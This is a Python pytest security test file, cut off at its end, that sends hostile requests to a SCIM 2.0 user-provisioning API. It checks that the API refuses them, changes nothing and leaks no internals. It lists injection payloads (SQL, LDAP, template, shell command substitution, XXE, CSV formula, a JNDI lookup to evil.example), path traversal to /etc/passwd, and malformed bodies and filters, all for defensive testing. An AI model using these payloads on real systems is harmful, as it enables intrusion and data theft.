"""Hostile requests are refused, or stored whole: quickly, in SCIM's words, and without a word about the inside."""

import http.client
import json
import random
import socket
import subprocess
import time
from contextlib import closing
from dataclasses import dataclass, field
from urllib.parse import unquote_to_bytes

import orjson
import pytest

from protocol import definitions
from protocol.definitions import CUSTOM, ENTERPRISE
from tests.databases import open_database

SCIM_JSON = "application/scim+json"
ERROR = "urn:ietf:params:scim:api:messages:2.0:Error"
PATCH_OP = "urn:ietf:params:scim:api:messages:2.0:PatchOp"
SECONDS = 5  # of this process that any answer may take
PATIENCE = 60  # seconds that it may take on a machine with other work
INSIDE = (
    b"Traceback",
    b'File "',
    b"sqlite",
    b"SELECT ",
    b"INSERT ",
    b"UPDATE ",
    b".py",
    b"site-packages",
    b"<html",
)
CUSTOM_TYPES = {
    "custText": "string",
    "custFlag": "boolean",
    "custInt": "integer",
    "custDec": "decimal",
    "custTime": "dateTime",
}


@dataclass
class Attack:
    """One hostile request. `{user}` and `{group}` in the path stand for resources that exist."""

    method: str
    path: str
    data: bytes | None = None
    headers: dict = field(default_factory=lambda: {"Content-Type": SCIM_JSON})
    environ: dict = field(default_factory=dict)

    def __str__(self):
        return f"{self.method} {self.path[:100]!r} {(self.data or b'')[:120]!r} {str(self.headers)[:80]}"


def nest(levels, beginning="[", end="]"):
    return beginning * levels + "[]" + end * levels


class Target:
    """The app under attack, with a few resources and a view of what its database holds."""

    def __init__(self, scim, instance, user, group):
        self.scim, self.user, self.group = scim, user, group
        self.database = open_database(instance)

    def content(self):
        tables = ("users", "groups", "group_members", "user_values", "user_words")
        return [self.database.execute(f'SELECT * FROM "{table}"').fetchall() for table in tables]

    def send(self, attack):
        path = attack.path.replace("{user}", self.user["id"]).replace("{group}", self.group["id"])
        path, _, query = path.partition("?")
        headers = {"Authorization": f"Bearer {self.scim.token}"} | attack.headers
        return self.scim.client.open(
            path,
            method=attack.method,
            query_string=query,
            data=attack.data,
            headers=headers,
            environ_overrides=attack.environ,
        )

    def faults(self, attack):
        """Send a request and return what is wrong with its answer, as sentences."""
        before, started, begun = self.content(), time.perf_counter(), time.process_time()
        answer = self.answer = self.send(attack)
        took, used = time.perf_counter() - started, time.process_time() - begun
        sent = unquote_to_bytes(attack.path) + (attack.data or b"")
        is_me = attack.path.split("?")[0].endswith("/Me")
        if answer.status_code >= 500 and not (answer.status_code == 501 and is_me):
            yield f"status {answer.status_code}"
        if used > SECONDS or took > PATIENCE:
            yield f"took {took:.1f} s, of which {used:.1f} were work"
        if answer.status_code >= 400:
            yield from unlike_an_error(answer, attack.method)
            if self.content() != before:
                yield f"{answer.status_code}, and the database changed"
        yield from (f"says {mark!r}" for mark in INSIDE if mark in answer.data and mark not in sent)

    def withstand(self, attacks):
        """Fail, naming every request that was not answered as it should be."""
        faults = {str(attack): found for attack in attacks if (found := list(self.faults(attack)))}
        assert faults == {}


def unlike_an_error(answer, method):
    """Yield what keeps an answer from being an error as RFC 7644 §3.12 wants it."""
    if answer.content_type != SCIM_JSON:
        yield f"content type {answer.content_type}"
    elif method != "HEAD":
        try:
            body = orjson.loads(answer.data)
        except orjson.JSONDecodeError:
            yield "the body is no JSON"
        else:
            if body.get("schemas") != [ERROR] or body.get("status") != str(answer.status_code):
                yield f"the body is no SCIM error: {answer.data[:200]!r}"


@pytest.fixture
def target(scim, instance, define, barbara, make_group):
    for name, kind in CUSTOM_TYPES.items():
        define(name, kind)
    target = Target(scim, instance, barbara, make_group("Tour Guides", barbara))
    with closing(target.database):
        yield target
        everything = scim.post("/.search", {"count": 1000})
        assert everything.status_code == 200, "the lists can no longer be read"


def json_attack(method, path, body):
    return Attack(method, path, body if isinstance(body, bytes) else json.dumps(body).encode())


def writes(attribute: bytes):
    """Return the ways to write one attribute, as raw JSON text `"name": value`."""
    operation = b'{"schemas": ["%s"], "Operations": [{"op": "replace", "value": {%s}}]}'
    return [
        Attack("POST", "/scim/v2/Users", b'{"userName": "mallory", %s}' % attribute),
        Attack("PUT", "/scim/v2/Users/{user}", b'{"userName": "bjensen@example.com", %s}' % attribute),
        Attack("PATCH", "/scim/v2/Users/{user}", operation % (PATCH_OP.encode(), attribute)),
    ]


# wrong types

WRONG = {
    "string": [5, 0, True, 1.5, {}, [], ["x"], {"value": "x"}],
    "reference": [5, True, {}, [], ["x"]],
    "binary": [5, True, {}, [], "not base64!", "=", "a"],
    "boolean": [5, 0, 1, "yes", "1", {}, [], ["true"], "tru"],
    "integer": ["5", 1.5, True, {}, [], 2**63, "x", 1e300],
    "decimal": ["5", True, {}, [], "x", 1e300, -1e300],
    "dateTime": [5, True, {}, [], "yesterday", "2026-13-01T00:00:00Z", "2026-01-31", "9999-99-99T99:99:99Z"],
}


def wrong_values(attribute):
    """Yield values that an attribute of a schema document cannot have."""
    if attribute["multiValued"]:
        yield from (5, True, [5], [True], [["x"]], [[{}]], [None, 5])
        if attribute["name"] not in ("roles", "entitlements"):  # clients send these as bare strings
            yield from ("x", ["x"])
        for sub in attribute["subAttributes"]:
            yield from ([{sub["name"]: wrong}] for wrong in WRONG[sub["type"]][:3])
    elif attribute["type"] == "complex":
        yield from (5, True, [], ["x"], 1.5)
        for sub in attribute["subAttributes"]:
            yield from ({sub["name"]: wrong} for wrong in WRONG[sub["type"]][:3])
    else:
        yield from WRONG[attribute["type"]]


def wrong_types():
    core = [definitions.COMMON[2], *definitions.USER_SCHEMA["attributes"]]
    custom = definitions.custom_schema([(name, kind, False) for name, kind in CUSTOM_TYPES.items()])
    for urn, attributes in (
        (None, core),
        (ENTERPRISE, definitions.ENTERPRISE_SCHEMA["attributes"]),
        (CUSTOM, custom["attributes"]),
    ):
        for attribute in attributes:
            if attribute["mutability"] != "readOnly":
                for value in wrong_values(attribute):
                    yield {attribute["name"]: value} if urn is None else {urn: {attribute["name"]: value}}


@pytest.mark.parametrize("way", [0, 1, 2], ids=["POST", "PUT", "PATCH"])
def test_a_wrong_type_is_refused_and_stored_nowhere(target, way):
    attacks = [writes(json.dumps(given)[1:-1].encode())[way] for given in wrong_types()]
    before = target.content()
    for attack in attacks:
        assert list(target.faults(attack)) == [], str(attack)
        assert target.answer.json.get("scimType") == "invalidValue", str(attack)
    assert target.content() == before


# bodies

DEEP = 100_000
NUMBERS = [
    b"9" * 200_000,
    b"-" + b"9" * 200_000,
    b"1e400",
    b"-1e400",
    b"9223372036854775808",
    b"-9223372036854775809",
]
NUMBERS += [
    b"18446744073709551616",
    b"0." + b"1" * 200_000,
    b"1e-400",
    b"NaN",
    b"Infinity",
    b"-Infinity",
    b"1_0",
    b"0x1",
]
NO_STRINGS = [rb'"\ud800"', rb'"\udfff\ud800"', rb'"x\ud83d"', b'"\xed\xa0\x80"', b'"\xff\xfe"', b'"\xc0\x80"']
NO_STRINGS += [rb'"\u0000"', b'"\x00"', b'"\x01"', rb'"\x41"', rb'"\u12"', b"'x'", b'"x', b'"a\nb"']
WHOLE_BODIES = [
    b"",
    b" ",
    b"null",
    b"true",
    b"5",
    b'"x"',
    b"[]",
    b"{}",
    b"[{}]",
    b'[{"userName": "mallory"}]',
    b"{",
    b"}",
    b'{"userName"}',
    b'{"userName": "mallory",}',
    b'{"userName": "mallory"} {}',
    b'{"userName": "mallory"}\x00',
    b"{'userName': 'mallory'}",
    b'{userName: "mallory"}',
    b'{"userName": "mallory" /* */}',
    b'\xef\xbb\xbf{"userName": "mallory"}',
    '{"userName": "mallory"}'.encode("utf-16"),
    '{"userName": "mallory"}'.encode("utf-16-le"),
    '{"userName": "mallory"}'.encode("utf-32"),
    b"\xff\xfe\xfd",
    b"\x1f\x8b\x08\x00",
    b"<user><userName>mallory</userName></user>",
    b"userName=mallory",
    b"{" + b'"a":1,' * 100_000 + b'"b":2}',
    b"[" * DEEP,
    b'{"a":' * DEEP,
    b"[" * DEEP + b"]" * DEEP,
    b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    b'{"userName": "mallory", "x": ' + b"[" * DEEP + b"]" * DEEP + b"}",
    b'{"userName": "mallory", "name": ' + b'{"name":' * 1000 + b"1" + b"}" * 1000 + b"}",
    b'{"userName": "mallory", "emails": ' + b"[" * 1000 + b"]" * 1000 + b"}",
    b'{"userName": "mallory", "x": ' + b"[" * 200 + b"]" * 200 + b"}",
    b'{"schemas": "x", "userName": "mallory"}',
    b'{"schemas": [5], "userName": "mallory"}',
    b'{"schemas": [], "userName": "mallory"}',
    b'{"schemas": {}, "userName": "mallory"}',
    b'{"Schemas": [null], "userName": "mallory"}',
    b'{"userName": "a", "userName": "mallory"}',
    b'{"userName": "a", "USERNAME": "mallory"}',
    b'{"userName": " "}',
    b'{"userName": ""}',
    b'{"userName": null}',
    b'{"": "", "userName": "mallory"}',
    b'{"userName": "' + b"x" * 1025 + b'"}',
    b'{"userName": "mallory", "title": "' + b"x" * 65_537 + b'"}',
    b'{"userName": "mallory", "emails": [' + b'{"value": "a@b.c"},' * 1000 + b'{"value": "a@b.c"}]}',
    b'{"userName": "mallory", "emails": [{"primary": true, "value": "a"}, {"primary": true, "value": "b"}]}',
]
WHERE_TO = [
    ("POST", "/scim/v2/Users"),
    ("POST", "/scim/v2/Groups"),
    ("PUT", "/scim/v2/Users/{user}"),
    ("PUT", "/scim/v2/Groups/{group}"),
    ("PATCH", "/scim/v2/Users/{user}"),
    ("PATCH", "/scim/v2/Groups/{group}"),
    ("POST", "/scim/v2/Users/.search"),
    ("POST", "/scim/v2/.search"),
    ("POST", "/scim/v2/Bulk"),
]
BODY_ATTACKS = [Attack(method, path, body) for body in WHOLE_BODIES for method, path in WHERE_TO]
VALUE_ATTACKS = [
    attack
    for value in NUMBERS + NO_STRINGS
    for name in (b"title", b"userName", b"active", b"shoeSize")
    for attack in writes(b'"%s": %s' % (name, value))
]
VALUE_ATTACKS += [
    attack
    for value in NUMBERS
    for name in (b"custInt", b"custDec")
    for attack in writes(b'"%s": {"%s": %s}' % (CUSTOM.encode(), name, value))
]


def test_bodies_that_make_no_sense(target):
    target.withstand(BODY_ATTACKS)


def test_numbers_and_strings_that_break_parsers(target):
    target.withstand(VALUE_ATTACKS)


@pytest.mark.parametrize("body", [b'{"a":' * DEEP, b"[" * DEEP + b"]" * DEEP, b"NaN", b'"\\ud800"', b"null"])
def test_a_body_that_is_no_json_object_is_400(scim, body):
    answer = scim.open("POST", "/Users", body, {"Content-Type": SCIM_JSON})
    assert (answer.status_code, answer.json["scimType"]) == (400, "invalidSyntax")
    assert scim.get("/Users").json["totalResults"] == 0


@pytest.mark.parametrize(
    "kind", ["text/plain", "text/html", "multipart/form-data", "application/x-www-form-urlencoded"]
)
def test_another_media_type_is_415(scim, kind):
    answer = scim.open("POST", "/Users", b'{"userName": "mallory"}', {"Content-Type": kind})
    assert answer.status_code == 415
    assert scim.get("/Users").json["totalResults"] == 0


STRANGE_HEADERS = [
    {"Content-Type": kind}
    for kind in (
        "",
        "/",
        ";",
        "application",
        "application/",
        "application/scim+json; charset=utf-16",
        "application/scim+json; charset=nonsense",
        "application/scim+json;;;",
        "application/scim+json, text/plain",
        "APPLICATION/SCIM+JSON",
        "application/json; boundary=x",
        "application/xml",
        "text/plain",
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "application/x-www-form-urlencoded",
        "x" * 10_000,
        'application/json; charset="',
        "application/scim+json\xff",
    )
]
STRANGE_HEADERS += [
    {"Content-Type": SCIM_JSON} | extra
    for extra in (
        {"Content-Encoding": "gzip"},
        {"Content-Encoding": "nonsense"},
        {"Accept": "text/html"},
        {"Accept": "\xff"},
        {"Accept-Charset": "utf-16"},
        {"Expect": "nonsense"},
        {"X-HTTP-Method-Override": "DELETE"},
        {"X-Forwarded-For": "' OR 1=1 --"},
        {"X-Forwarded-Proto": "gopher"},
        {"Forwarded": "for=x;host=evil"},
        {"Host": "evil.example\\"},
        {"Host": "[::1"},
        {"Host": "a b"},
        {"Host": "x" * 5000},
        {"Cookie": "session=.eJw; rollcall=x"},
        {"Range": "bytes=0-1"},
        {"User-Agent": "${jndi:ldap://evil.example/x}"},
    )
]
LENGTHS = ("abc", "-1", "1e3", "٣", "9" * 25, "9" * 5_000, " ", "0x10", "5,5")


def test_strange_headers(target):
    target.withstand(Attack("POST", "/scim/v2/Users", b"{}", headers) for headers in STRANGE_HEADERS)
    target.withstand(Attack("GET", "/scim/v2/Users", None, headers) for headers in STRANGE_HEADERS)


def test_lengths_that_are_none(target):
    lengths = [Attack("POST", "/scim/v2/Users", b"{}", environ={"CONTENT_LENGTH": length}) for length in LENGTHS]
    target.withstand(lengths)


# injection

INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    '" or userName pr or "',
    "x' UNION SELECT digest FROM tokens --",
    "*)(uid=*))(|(uid=*",
    "admin*",
    "*()\\\x7f",
    "{{7*7}}",
    "{% for x in () %}{% endfor %}",
    "{{config}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${7*7}",
    "#{7*7}",
    "%s%s%s%n",
    "%(password)s",
    "{0.__class__}",
    "<script>alert(1)</script>",
    "<!--#exec cmd='id'-->",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "$(id)",
    "`id`",
    "| id",
    "; id",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "x\r\nX-Evil: 1",
    "x\r\n\r\n<html>",
    "bulkId:x",
    "__proto__",
    "__class__.__init__.__globals__",
    "1",
    "0",
    "-1",
    "null",
    "undefined",
    "true",
    "NaN",
]


def quoted(text):
    return json.dumps(text)


def percent(text):
    return "".join(f"%{byte:02x}" for byte in text.encode())


INJECTION_ATTACKS = [
    attack
    for text in INJECTIONS
    for attack in (
        json_attack("POST", "/scim/v2/Users", {"userName": text, "externalId": text, "title": text, text: text}),
        json_attack(
            "PUT", "/scim/v2/Groups/{group}", {"displayName": text, "externalId": text, text: {text: text}}
        ),
        json_attack("PATCH", "/scim/v2/Users/{user}", {"Operations": [{"op": "add", "path": text, "value": text}]}),
        json_attack("PATCH", "/scim/v2/Users/{user}", {"Operations": [{"op": "add", "value": {text: text}}]}),
        json_attack("POST", "/scim/v2/Users/.search", {"filter": f"userName eq {quoted(text)}"}),
        json_attack("POST", "/scim/v2/Users/.search", {"filter": text}),
        json_attack("POST", "/scim/v2/Users/.search", {"sortBy": text}),
        json_attack("POST", "/scim/v2/Users/.search", {"attributes": [text], "cursor": text}),
        Attack("GET", f"/scim/v2/Users?filter={percent(text)}&sortBy={percent(text)}"),
        Attack("GET", f"/scim/v2/Users/{percent(text)}"),
        Attack("GET", f"/scim/v2/Schemas/{percent(text)}"),
        Attack("DELETE", f"/scim/v2/Groups/{percent(text)}"),
        Attack("GET", f"/scim/v2/{percent(text)}"),
    )
]


def test_injections(target):
    target.withstand(INJECTION_ATTACKS)


def test_an_injected_name_finds_itself_only(scim, make_user):
    users = {text: make_user(f"user{i}", title=text) for i, text in enumerate(INJECTIONS)}
    for text, user in users.items():
        assert [u["id"] for u in scim.find("Users", f"title eq {quoted(text)}")] == [user["id"]]


# paths and methods

METHODS = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "X"]
ROUTES = [
    "/scim",
    "/scim/",
    "/scim/v1/Users",
    "/scim/v2",
    "/scim/v2/",
    "/scim/v2/Users",
    "/scim/v2/Users/{user}",
    "/scim/v2/Users/2819c223",
    "/scim/v2/Users/.search",
    "/scim/v2/Groups",
    "/scim/v2/Groups/2819c223",
    "/scim/v2/Groups/.search",
    "/scim/v2/.search",
    "/scim/v2/Bulk",
    "/scim/v2/Me",
    "/scim/v2/ServiceProviderConfig",
    "/scim/v2/ServiceProviderConfig/x",
    "/scim/v2/ResourceTypes",
    "/scim/v2/ResourceTypes/User",
    "/scim/v2/Schemas",
    "/scim/v2/Schemas/x",
    "/scim/v2/Devices",
    "/scim/v2/Users/{user}/groups",
]
TRICKS = [
    "/scim/v2/../v2/Users/x",
    "/scim/v2/..",
    "/scim/v2/%2e%2e/%2e%2e/etc/passwd",
    "/scim/v2/%2e/Users/x",
    "/scim/v2/Users%2fx",
    "/scim/v2/Users%252fx",
    "/scim/v2//Users//x",
    "/scim//v2///Users/x//",
    "/scim/v2/Users/x;jsessionid=1",
    "/scim/v2/Users;/x",
    "/scim/v2/users",
    "/scim/v2/USERS/x",
    "/scim/V2/Users",
    "/scim/v2/Users.",
    "/scim/v2/Users/.",
    "/scim/v2/Users/..",
    "/scim/v2/Users/...",
    "/scim/v2/Users/x.",
    "/scim/v2/Users/x%00",
    "/scim/v2/Users/%00",
    "/scim/v2/Users/%0d%0aX-Evil:1",
    "/scim/v2/Users/%ff%fe",
    "/scim/v2/Users/%ed%a0%80",
    "/scim/v2/Users/%c0%ae%c0%ae",
    "/scim/v2/Users/%",
    "/scim/v2/Users/%zz",
    "/scim/v2/Users/%20",
    "/scim/v2/Users/%20{user}",
    "/scim/v2/Users/{user}%20",
    "/scim/v2/Users/{user}.json",
    "/scim/v2/Users/{group}",
    "/scim/v2/Groups/{user}",
    "/scim/v2/Users/1",
    "/scim/v2/Users/-1",
    "/scim/v2/Users/0",
    "/scim/v2/Users/" + "9" * 5_000,
    "/scim/v2/Users/" + "a/" * 2_000,
    "/scim/v2/Users/*",
    "/scim/v2/Users/%2a",
    "/scim/v2/Users/me",
    "/scim/v2/Bulk/x",
    "/scim/v2/Users/.search/x",
    "/scim/v2/Users/{user}/.search",
    "/scim/v2/~root",
    "/scim/v2/console?__debugger__=yes&cmd=resource&f=debugger.js",
    "/scim/v2/\\Users",
    "/scim/%76%32/Users/x",
    "/scim/v2/Us\u212aers",
    "/scim/v2/Users/\u0662",
]
PATH_ATTACKS = [
    Attack(method, path, None if method in ("GET", "HEAD") else b"{}") for path in TRICKS for method in METHODS[:6]
]
METHOD_ATTACKS = [
    Attack(method, path, None if method in ("GET", "HEAD") else b"{}")
    for path in ROUTES
    for method in METHODS
    if (method, path) != ("DELETE", "/scim/v2/Users/{user}")
]


def test_path_tricks(target):
    target.withstand(PATH_ATTACKS)


def test_every_method_on_every_path(target):
    target.withstand(METHOD_ATTACKS)


@pytest.mark.parametrize("method", ["PUT", "PATCH", "OPTIONS", "TRACE", "PROPFIND"])
def test_a_method_that_a_path_does_not_have_is_405_and_says_which_it_has(scim, method):
    answer = scim.open(method, "/Users")
    assert (answer.status_code, answer.json["status"]) == (405, "405")
    assert answer.headers["Allow"] == "GET, HEAD, POST"


# filters

BROKEN_FILTERS = [
    "",
    " ",
    "userName",
    "userName eq",
    'eq "x"',
    'userName "x"',
    'userName = "x"',
    'userName == "x"',
    'userName like "x"',
    'userName eq "x',
    'userName eq x"',
    "userName eq 'x'",
    "userName eq x",
    'userName eq "x" and',
    'userName eq "x" or',
    'and userName eq "x"',
    'or userName eq "x"',
    'userName eq "x" userName eq "y"',
    'userName eq "x" and and title pr',
    'userName eq "x" xor title pr',
    'userName eq "x", title pr',
    '(userName eq "x"',
    'userName eq "x")',
    "()",
    "(())",
    "not",
    "not ()",
    "not userName pr",
    'not not (userName eq "x")',
    "userName pr pr",
    'userName pr "x"',
    'userName ne eq "x"',
    'emails[type eq "work"',
    'emails type eq "work"]',
    "emails[]",
    'emails[type eq "work"]]',
    'emails[type eq "work"] eq "x"',
    'emails[type eq "work"].',
    'emails[type eq "work"].nothing eq "x"',
    'emails[emails[type eq "work"]]',
    'name[givenName eq "x"]',
    'userName[value eq "x"]',
    'shoeSize eq "41"',
    'name.nothing eq "x"',
    '.userName eq "x"',
    'urn:x:User:userName eq "x"',
    'name eq "x"',
    "active co true",
    "active gt true",
    'active eq "maybe"',
    "active eq 1",
    "userName eq 5",
    "userName eq true",
    'meta.created gt "yesterday"',
    "userName gt null",
    f'{CUSTOM}:custInt eq "5"',
    f"{CUSTOM}:custInt co 5",
    f"{CUSTOM}:custInt eq 9223372036854775808",
    f"{CUSTOM}:custDec eq 1e400",
    f"{CUSTOM}:custInt eq {'9' * 5000}",
    f"{CUSTOM}:custInt eq NaN",
    f"{CUSTOM}:custInt eq 05",
    f"{CUSTOM}:custInt eq +5",
    f"{CUSTOM}:custInt eq 5.",
    r'userName eq "\ud800"',
    r'userName eq "\u12"',
    r'userName eq "\x41"',
    r'userName eq "\u0000"',
    'userName eq "a\nb"',
    'userName\x00eq "x"',
    'userName eq "x" -- and title pr',
    'userName eq "x" /* */',
    'userName eq "x"; DROP TABLE users',
    'userName eq "x" # x',
    "* eq *",
    "userName eq *",
    "userName eq (title)",
    "userName eq title",
    'userName eq {"a": 1}',
    'userName eq ["x"]',
    "1 eq 1",
    "true",
    "\u0075serName\u00a0eq\u00a0\u201cx\u201d",
    'password eq "x"',
    "password pr",
    'password sw "a"',
    'urn:ietf:params:scim:schemas:core:2.0:User:password co "a"',
]
ODD_FILTERS = {  # and whom of Barbara and Ada they find
    'USERNAME EQ "ADA"': "ada",
    'uSeRnAmE Eq "aDa"': "ada",
    '  userName   eq   "ada"  ': "ada",
    '\tuserName\teq\t"ada"\n': "ada",
    '(userName eq "ada")': "ada",
    '((((userName eq "ada"))))': "ada",
    '(userName eq "ada")or(userName eq "x")': "ada",
    'userName eq "ada"and title pr': "",
    "not(title pr)": "ada",
    "NOT (title pr)": "ada",
    "not (not (title pr))": "barbara",
    "title eq null": "ada",
    "title ne null": "barbara",
    'title ne "x"': "ada barbara",
    'title ne ""': "ada barbara",
    'title co ""': "barbara",
    'title sw ""': "barbara",
    'title ew ""': "barbara",
    'title eq ""': "",
    'title gt ""': "barbara",
    'userName eq "ada" or userName eq "ada"': "ada",
    'userName eq "ada" and userName eq "ada"': "ada",
    'userName eq "x" or userName eq "ada" and active eq true': "ada",
    'userName eq "ada" or userName eq "x" and active eq false': "ada",
    '(userName eq "ada" or userName eq "x") and active eq false': "",
    "active eq TRUE": "ada barbara",
    'active eq "True"': "ada barbara",
    "active ne false": "ada barbara",
    "emails pr": "barbara",
    "emails.value pr": "barbara",
    "emails[primary eq true]": "barbara",
    'emails[type eq "WORK" and value co "jensen"]': "barbara",
    'emails[type eq "work" and value co "babs"]': "",
    'emails[not (type eq "work")]': "barbara",
    'emails[type eq "work"].value eq "bjensen@example.com"': "barbara",
    'emails eq "babs@jensen.org"': "barbara",
    r'userName eq "\u0061da"': "ada",
    r'userName eq "a\/da"': "",
    'urn:ietf:params:scim:schemas:core:2.0:User:userName eq "ada"': "ada",
    'URN:IETF:PARAMS:SCIM:SCHEMAS:CORE:2.0:USER:USERNAME EQ "ada"': "ada",
    'meta.resourceType eq "User"': "ada barbara",
    'meta.created lt "2999-01-01T00:00:00+02:00"': "ada barbara",
    'meta.created gt "0001-01-01T00:00:00"': "ada barbara",
    "groups pr": "barbara",
    'groups.display eq "tour guides"': "barbara",
    'schemas eq "urn:ietf:params:scim:schemas:core:2.0:User"': "ada barbara",
    f"{CUSTOM}:custInt eq 5": "",
    f"{CUSTOM}:custInt lt -9223372036854775808": "",
    f"{CUSTOM}:custDec eq -0.0": "",
    f"{ENTERPRISE}:department pr": "",
    f"not ({ENTERPRISE} pr)": "ada barbara",
    'name.givenName eq "BARBARA"': "barbara",
}
SAME = 'userName eq "x"'
GIANT_FILTERS = {  # and how many of Barbara and Ada they find; None: refused
    " or ".join([SAME] * 100): 0,
    " and ".join([SAME] * 100): 0,
    " or ".join([SAME] * 101): None,
    " or ".join([SAME] * 100_000): None,
    "(" * 30 + SAME + ")" * 30: 0,
    "(" * 31 + SAME + ")" * 31: None,
    "(" * 4_000 + SAME + ")" * 4_000: None,
    "(" * 1_000_000: None,
    "not (" * 30 + SAME + ")" * 30: 0,
    "not (" * 29 + SAME + ")" * 29: 2,
    "not (" * 28 + 'emails[not (type eq "work")]' + ")" * 28: 1,
    "not (emails[" + "not (" * 28 + 'type eq "work"' + ")" * 28 + "])": 1,
    " or ".join(['emails[type eq "work" and not (value co "x")]'] * 33): 0,
    " or ".join(['emails[type pr and value pr and not (display eq "x" or primary eq false)]'] * 20): 1,
    " and ".join(['not (groups[display co "x"] or emails.value ew "y")'] * 33): 2,
    "(" * 20 + " and ".join(['not (groups[display co "x"] or emails.value ew "y")'] * 33) + ")" * 20: 2,
    "[" * 100_000: None,
    'emails[type eq "work" and (' * 29 + SAME: None,
    f'userName eq "{"x" * 9_000}"': 0,
    f'title co "{"%_" * 4_900}"': 0,
    f'title co "{"x" * 1_000_000}"': None,
    f"{CUSTOM}:custInt eq " + "9" * 9_000: None,
    f"{CUSTOM}:custDec eq 0." + "1" * 9_000: 0,
    "a" * 9_000 + " pr": None,
    "a." * 4_500 + "b pr": None,
    "\\" * 9_000: None,
    '"' * 9_001: None,
    " " * 9_900 + SAME: 0,
    "and " * 2_400: None,
}


@pytest.fixture
def ada(make_user):
    return make_user("ada")


def search(filter, path="/scim/v2/Users/.search"):
    return json_attack("POST", path, {"filter": filter})


@pytest.mark.parametrize("path", ["/scim/v2/Users/.search", "/scim/v2/.search", "/scim/v2/Groups/.search"])
def test_filters_of_every_kind(target, path):
    target.withstand(search(text, path) for text in [*BROKEN_FILTERS, *ODD_FILTERS, *GIANT_FILTERS])


def test_a_broken_filter_is_refused_and_never_means_everyone(target, ada):
    answers = {text: target.send(search(text)).json for text in BROKEN_FILTERS}
    accepted = [text for text, answer in answers.items() if answer.get("status") != "400"]
    assert accepted == []
    kinds = {text: answer["scimType"] for text, answer in answers.items()}
    assert {text: kind for text, kind in kinds.items() if kind not in ("invalidFilter", "invalidPath")} == {}


def test_an_odd_filter_finds_whom_it_says(target, ada):
    names = {target.user["id"]: "barbara", ada["id"]: "ada"}
    for text, expected in ODD_FILTERS.items():
        answer = target.send(search(text)).json
        found = sorted(names[user["id"]] for user in answer.get("Resources", [{"id": target.user["id"]}] * 9))
        assert (text, found) == (text, expected.split())


def test_a_giant_filter_is_refused_or_finds_whom_it_says(target, ada):
    answers = {text: target.send(search(text)).json for text in GIANT_FILTERS}
    wrong = {text: answer for text, answer in answers.items() if answer.get("totalResults") != GIANT_FILTERS[text]}
    assert {text[:60]: str(answer)[:300] for text, answer in wrong.items()} == {}


# PATCH paths

PATCH_PATHS = [
    "__proto__",
    "__proto__.x",
    "constructor.prototype.x",
    "__class__.__init__",
    "__dict__",
    "a.b.c",
    "toString.x",
    "name.__class__",
    "name.givenName.x",
    "name.givenName.__class__.__mro__",
    "name..givenName",
    ".name",
    "name.",
    "/name/givenName",
    "name/givenName",
    'name[givenName eq "x"]',
    "emails[",
    "emails[]",
    "emails[0]",
    "emails[-1]",
    "emails[*]",
    "emails.0.value",
    'emails[type eq "work"',
    'emails[type eq "work"]]',
    'emails[type eq "work"].value.x',
    'emails[type eq "work"].__class__',
    'emails[type eq "work"][value pr]',
    'emails[type eq "nowhere"].value',
    "emails[value pr].$ref",
    "$ref",
    "$",
    "*",
    "id",
    "meta",
    "meta.version",
    "meta.created",
    "groups",
    "groups[value pr]",
    'groups[value eq "x"].display',
    "schemas",
    "version",
    "pk",
    "source",
    "user_name_key",
    "document",
    'userName[value eq "x"]',
    "urn:ietf:params:scim:schemas:core:2.0:User",
    "urn:ietf:params:scim:schemas:core:2.0:User:",
    "urn:ietf:params:scim:schemas:core:2.0:User:id",
    "urn:ietf:params:scim:schemas:core:2.0:Group:displayName.x",
    f"{ENTERPRISE}:",
    f"{ENTERPRISE}:manager.__class__",
    f"{CUSTOM}:__class__",
    "x" * 100_000,
    "name." * 2_000,
    "emails[" * 2_000,
    "members",
    'members[value eq "x"]',
    'members[value eq "x"].display',
    "members.value",
    "\x00",
    "\r\n",
    " ",
    " id ",
]
NO_PATHS = [5, True, {}, [], ["userName"], 1.5]
NO_OPERATIONS = [
    {},
    {"Operations": None},
    {"Operations": {}},
    {"Operations": []},
    {"Operations": "x"},
    {"Operations": [None]},
    {"Operations": ["x"]},
    {"Operations": [[]]},
    {"Operations": [{}]},
    {"Operations": [{"op": None}]},
    {"Operations": [{"op": 5, "path": "title", "value": "x"}]},
    {"Operations": [{"op": "move", "from": "title", "path": "userName"}]},
    {"Operations": [{"op": "test", "path": "title", "value": "x"}]},
    {"Operations": [{"op": "__class__", "path": "title", "value": "x"}]},
    {"Operations": [{"op": "add"}]},
    {"Operations": [{"op": "add", "path": "title"}]},
    {"Operations": [{"op": "remove"}]},
    {"Operations": [{"op": "remove", "path": "userName"}]},
    {"Operations": [{"op": "replace", "path": "userName", "value": None}]},
    {"Operations": [{"op": "replace", "value": "x"}]},
    {"Operations": [{"op": "replace", "value": ["x"]}]},
    {"Operations": [{"op": "replace", "value": None}]},
    {"Operations": [{"op": "replace", "path": "emails", "value": "x"}]},
    {"Operations": [{"op": "add", "path": 'emails[type eq "work"]', "value": "x"}]},
    {"Operations": [{"op": "add", "path": 'emails[type eq "work"]', "value": ["x"]}]},
    {"Operations": [{"op": "remove", "path": "emails", "value": 5}]},
    {"Operations": [{"op": "remove", "path": "emails", "value": ["x"]}]},
    {"Operations": [{"op": "add", "path": "title", "value": "x"}] * 20_001},
    {"schemas": "x", "Operations": [{"op": "add", "path": "title", "value": "x"}]},
    {"schemas": [{}], "Operations": [{"op": "add", "path": "title", "value": "x"}]},
    {"Operations": [{"op": "add", "path": "title", "value": "x"}, {"op": "add", "path": "nothing", "value": "x"}]},
]
PATCH_ATTACKS = [
    json_attack("PATCH", path, {"Operations": [{"op": op, "path": named, "value": value}]})
    for path in ("/scim/v2/Users/{user}", "/scim/v2/Groups/{group}")
    for named in [*PATCH_PATHS, *NO_PATHS]
    for op, value in (("replace", "x"), ("add", [{"value": "x"}]), ("remove", None))
]
PATCH_ATTACKS += [
    json_attack("PATCH", path, body)
    for path in ("/scim/v2/Users/{user}", "/scim/v2/Groups/{group}")
    for body in NO_OPERATIONS
]


def test_hostile_patches(target):
